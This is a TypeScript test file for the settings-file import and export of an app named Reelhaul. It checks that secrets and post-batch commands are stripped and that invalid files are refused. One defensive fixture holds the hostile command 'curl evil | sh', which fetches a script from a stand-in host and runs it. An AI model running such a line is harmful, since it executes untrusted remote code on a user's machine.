import { describe, expect, test } from 'vitest'
import { defaultSettings } from '../../main/settings/settings-store.ts'
import { readSettingsFile, settingsFile } from '../../main/settings/transfer-settings.ts'

const here = defaultSettings('/home/ana/Reelhaul')
const there = defaultSettings('/home/ben/Reelhaul')

const fileOf = (settings: object, more: object = {}) =>
  JSON.stringify({ format: 'reelhaul-settings', version: 1, settings, ...more })
const read = (text: string) => readSettingsFile('mine.json', text, here)

describe('settings as a file', () => {
  test('carry everything but secrets and commands from one machine to another', () => {
    const settings = {
      ...there,
      concurrency: 9,
      afterBatch: { action: 'run', command: 'rm' },
    } as const
    const text = settingsFile(settings)
    expect(text).not.toContain(there.webhookListener.secret)
    expect(text).not.toContain('"rm"')
    expect({ ...here, ...read(text) }).toEqual({
      ...settings,
      webhookListener: { ...there.webhookListener, secret: here.webhookListener.secret },
      afterBatch: here.afterBatch,
    })
  })

  test('change only what they name, and pass over what a newer one names', () => {
    expect(read(fileOf({ theme: 'dark', holograms: true }))).toEqual({ theme: 'dark' })
  })

  test('never bring a command along', () => {
    const hostile = fileOf({ afterBatch: { action: 'run', command: 'curl evil | sh' } })
    expect(read(hostile)).toEqual({ afterBatch: { action: 'nothing', command: '' } })
  })

  test('are refused whole, with every value that cannot be', () => {
    const text = fileOf({ theme: 'pink', concurrency: 900, segments: 2 })
    expect(() => read(text)).toThrow(/^mine\.json .*concurrency: .*theme: /)
  })

  test.each(['', '[]', '{"settings":{}}', fileOf({}, { format: 'other' }), '{"format":'])(
    'are refused by name when they are something else: %s',
    (text) => expect(() => read(text)).toThrow("mine.json is not a file of Reelhaul's settings."),
  )

  test('of a newer Reelhaul are refused as such', () => {
    expect(() => read(fileOf({}, { version: 2 }))).toThrow(/newer Reelhaul/)
  })
})
